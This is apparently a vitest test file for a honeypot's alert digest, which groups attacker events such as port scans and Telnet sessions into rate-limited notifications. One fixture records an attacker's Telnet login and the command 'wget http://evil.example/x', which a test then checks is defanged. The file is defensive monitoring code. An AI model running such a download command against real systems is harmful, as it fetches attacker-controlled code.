import type { SensorEvent } from "@propolis/core"
import { describe, expect, it } from "vitest"
import { describeAlert } from "./alert-text.ts"
import { type Alert, Digest, digestStateSchema } from "./digest.ts"
import { digestSchema } from "./digest-options.ts"

const second = 1_000
const hour = 3_600 * second
const start = Date.UTC(2026, 10, 22, 12)

let made = 0
function eventOf(source: string, changes: Partial<SensorEvent> = {}): SensorEvent {
  return {
    id: `01890000-0000-7000-8000-${(made++).toString(16).padStart(12, "0")}`,
    time: start,
    sensor: "s1",
    session: "01890000-0000-7000-9000-000000000000",
    seq: 0,
    protocol: "TCP",
    event: "CONNECT",
    service: "Telnet",
    emulator: "telnet",
    localHost: "10.0.0.1",
    localPort: 10_023,
    remoteHost: source,
    remotePort: 40_000,
    bytes: 0,
    data: new Uint8Array(0),
    sha256: "",
    attributes: {},
    ...changes,
  }
}
const open = (options: object = {}, now = start) => new Digest(digestSchema.parse(options), now)
const sourcesOf = (alerts: readonly Alert[]) =>
  alerts.map((alert) => (alert.kind === "source" ? alert.report.source : alert.kind))
const linesOf = (alert: Alert) => {
  const context = { sensor: "s1", hubUrl: "https://hub.example/", nowMs: start, quotes: true }
  return describeAlert(alert, context).lines.map((line) =>
    line
      .map((span) =>
        typeof span === "string"
          ? span
          : "bold" in span
            ? span.bold
            : "quote" in span
              ? span.quote
              : span.link,
      )
      .join(""),
  )
}

describe("the digest", () => {
  it("makes one message of a scan of 1,000 ports", () => {
    const digest = open()
    for (let port = 1; port <= 1_000; port++) {
      const time = start + port * 40
      digest.add(eventOf("203.0.113.9", { localPort: port, service: `S${port % 20}`, time }), time)
      digest.add(eventOf("203.0.113.9", { localPort: port, event: "DISCONNECT", seq: 1, time }), time)
    }
    expect(digest.take(start + 59 * second)).toEqual([])
    const alerts = digest.take(start + 61 * second)
    expect(sourcesOf(alerts)).toEqual(["203.0.113.9"])
    expect(linesOf(alerts[0]!)[0]).toBe("203.0.113.9 touched 1,000 ports in 40 s")
    expect(linesOf(alerts[0]!).at(-1)).toBe("Sensor s1 · https://hub.example/hosts/203.0.113.9")
    expect(digest.take(start + hour)).toEqual([])
  })

  it("tells what was tried at one service", () => {
    const digest = open()
    digest.add(eventOf("198.51.100.7"), start)
    const attributes = { username: "root", password: "hunter2", command: "wget http://evil.example/x" }
    digest.add(
      eventOf("198.51.100.7", { event: "INFO", seq: 1, attributes, time: start + 5 * second }),
      start,
    )
    expect(linesOf(digest.take(start + 60 * second)[0]!)).toEqual([
      "198.51.100.7: a session with Telnet (port 10023), 2 events in 5 s",
      "login: root / hunter2",
      "command: wget hxxp[:]//evil[.]example/x",
      "Sensor s1 · https://hub.example/hosts/198.51.100.7",
    ])
  })

  it("says that a source of UDP alone may be forged", () => {
    const digest = open()
    digest.add(eventOf("198.51.100.7", { protocol: "UDP", event: "RX" }), start)
    expect(linesOf(digest.take(start + 60 * second)[0]!)).toContain(
      "Only UDP so far: the address may be forged.",
    )
  })

  it("keeps sources apart, each with a window of its own", () => {
    const digest = open()
    digest.add(eventOf("a"), start)
    digest.add(eventOf("b"), start + 30 * second)
    expect(digest.nextAt(start)).toBe(start + 60 * second)
    expect(sourcesOf(digest.take(start + 60 * second))).toEqual(["a"])
    expect(digest.nextAt(start + 60 * second)).toBe(start + 90 * second)
    expect(sourcesOf(digest.take(start + 90 * second))).toEqual(["b"])
    expect(digest.nextAt(start + 90 * second)).toBeUndefined()
  })

  it("is silent about a source for a while, and then tells all of that time", () => {
    const digest = open({ silenceMs: 600 * second })
    digest.add(eventOf("a"), start)
    digest.take(start + 60 * second)
    for (let n = 1; n <= 5; n++) digest.add(eventOf("a"), start + (60 + n * 60) * second)
    expect(digest.take(start + 600 * second)).toEqual([])
    const [alert] = digest.take(start + 660 * second)
    expect(alert).toMatchObject({ kind: "source", report: { source: "a", events: 5 } })
  })

  it("makes no news of the end of a session that was told", () => {
    const digest = open({ silenceMs: 0 })
    digest.add(eventOf("a"), start)
    digest.take(start + 60 * second)
    digest.add(eventOf("a", { event: "DISCONNECT", seq: 1 }), start + 120 * second)
    digest.add(eventOf("a", { event: "TX", seq: 2 }), start + 120 * second)
    expect(digest.nextAt(start + 120 * second)).toBeUndefined()
  })

  it.each([
    ["events", { minEvents: 3 }],
    ["ports", { minPorts: 3 }],
  ])("does not tell what stays below its threshold of %s", (_, options) => {
    const digest = open(options)
    for (let port = 1; port <= 2; port++) digest.add(eventOf("few", { localPort: port }), start)
    for (let port = 1; port <= 3; port++) digest.add(eventOf("enough", { localPort: port }), start)
    expect(sourcesOf(digest.take(start + 60 * second))).toEqual(["enough"])
  })

  it("ignores by source × service × event", () => {
    const digest = open({ ignore: [{ sources: ["10.0.0.0/8"], services: ["HTTP*"], events: ["CONNECT"] }] })
    digest.add(eventOf("10.1.2.3", { service: "HTTP.8080" }), start)
    digest.add(eventOf("10.1.2.4", { service: "HTTP.8080", event: "RX" }), start)
    digest.add(eventOf("10.1.2.5", { service: "SSH" }), start)
    digest.add(eventOf("192.0.2.1", { service: "HTTP.8080" }), start)
    expect(sourcesOf(digest.take(start + 60 * second))).toEqual(["10.1.2.4", "10.1.2.5", "192.0.2.1"])
  })

  it("puts sources together when there are too many messages", () => {
    const digest = open({ maxMessagesPerHour: 3, silenceMs: 0 })
    for (let n = 0; n < 2; n++) digest.add(eventOf(`first-${n}`), start)
    expect(sourcesOf(digest.take(start + 60 * second))).toEqual(["first-0", "first-1"])
    const later = start + 120 * second
    for (let n = 0; n < 40; n++) {
      for (let i = 0; i <= n; i++) digest.add(eventOf(`then-${n}`, { time: later }), later)
    }
    const [alert, ...none] = digest.take(later + 60 * second)
    expect(none).toEqual([])
    expect(linesOf(alert!).slice(0, 2)).toEqual([
      "40 sources caused 820 events in 1 s",
      "then-39: 40 events, Telnet",
    ])
    expect(linesOf(alert!)).toContain("and 30 more")
    digest.add(eventOf("at-last"), later)
    expect(digest.take(later + 300 * second)).toEqual([])
    const free = digest.nextAt(later + 300 * second)!
    expect(free).toBe(start + 60 * second + hour + 1)
    expect(sourcesOf(digest.take(free))).toEqual(["at-last"])
  })

  it("holds no more sources than it may, and counts what the others did", () => {
    const digest = open({ maxSources: 5 })
    for (let n = 0; n < 100; n++) digest.add(eventOf(`source-${n}`), start)
    const [alert] = digest.take(start + 60 * second)
    expect(alert).toMatchObject({ kind: "sources", sources: 5, events: 5, uncounted: 95 })
    expect(digest.nextAt(start + 60 * second)).toBeUndefined()
  })

  it("bounds what it holds of one source", () => {
    const digest = open()
    for (let n = 0; n < 20_000; n++) {
      const attributes = { command: `${n} ${"x".repeat(8_000)}` }
      digest.add(eventOf("a", { event: "RX", localPort: n, service: `S${n}`, attributes }), start)
    }
    expect(JSON.stringify(digest.state([])).length).toBeLessThan(10_000)
    expect(linesOf(digest.take(start + 60 * second)[0]!)[0]).toContain("touched 1,024+ ports")
  })

  it.each([
    ["in the night", "23:30", 0],
    ["after midnight", "03:00", 0],
    ["at its end", "07:00", 1],
    ["by day", "12:00", 1],
  ])("keeps quiet hours: %s", (_, clock, messages) => {
    const now = Date.parse(`2026-11-22T${clock}:00+01:00`)
    const quiet = { from: "22:00", to: "07:00", timeZone: "Europe/Berlin" }
    const digest = open({ quiet }, now - 60 * second)
    digest.add(eventOf("a"), now - 60 * second)
    expect(digest.take(now)).toHaveLength(messages)
    if (messages === 1) return
    const end = digest.nextAt(now)!
    expect(new Date(end).toLocaleTimeString("en-GB", { timeZone: "Europe/Berlin" })).toBe("07:00:00")
    expect(sourcesOf(digest.take(end))).toEqual(["a"])
  })

  it("tells after a night with many sources in one message", () => {
    const night = Date.UTC(2026, 10, 22, 23)
    const digest = open({ quiet: { from: "22:00", to: "07:00" } }, night)
    for (let n = 0; n < 30; n++) digest.add(eventOf(`a-${n}`), night)
    expect(sourcesOf(digest.take(night + 8 * hour))).toEqual(["sources"])
  })

  it("tells that the sensor is alive, first after a whole interval", () => {
    const digest = open({ heartbeatMs: hour })
    digest.add(eventOf("a"), start)
    expect(sourcesOf(digest.take(start + hour - 1))).toEqual(["a"])
    const [alert] = digest.take(start + hour)
    expect(alert).toEqual({ kind: "heartbeat", sinceMs: start, events: 1, messages: 1 })
    expect(digest.take(start + hour)).toEqual([])
    expect(digest.nextAt(start + hour)).toBe(start + 2 * hour)
  })

  it("goes on from a kept state", () => {
    const first = open({ maxMessagesPerHour: 2 })
    first.add(eventOf("told"), start)
    const told = first.take(start + 60 * second)
    first.add(eventOf("a", { localPort: 1 }), start + 61 * second)
    const state = digestStateSchema.parse(JSON.parse(JSON.stringify(first.state(told))))
    expect(state.outbox).toEqual(told)
    const again = new Digest(digestSchema.parse({ maxMessagesPerHour: 2 }), start + 62 * second, state)
    again.add(eventOf("a", { localPort: 2 }), start + 62 * second)
    again.add(eventOf("told"), start + 62 * second)
    expect(again.nextAt(start + 62 * second)).toBe(start + 121 * second)
    expect(again.take(start + 121 * second)).toMatchObject([
      { kind: "source", report: { source: "a", events: 2, ports: [1, 2] } },
    ])
    expect(again.take(start + 600 * second)).toEqual([])
  })

  it("is not held up by a clock that was set back", () => {
    const first = open()
    first.add(eventOf("a"), start + 1_000 * hour)
    const again = new Digest(digestSchema.parse({}), start, first.state([]))
    expect(sourcesOf(again.take(start + hour))).toEqual(["a"])
  })
})
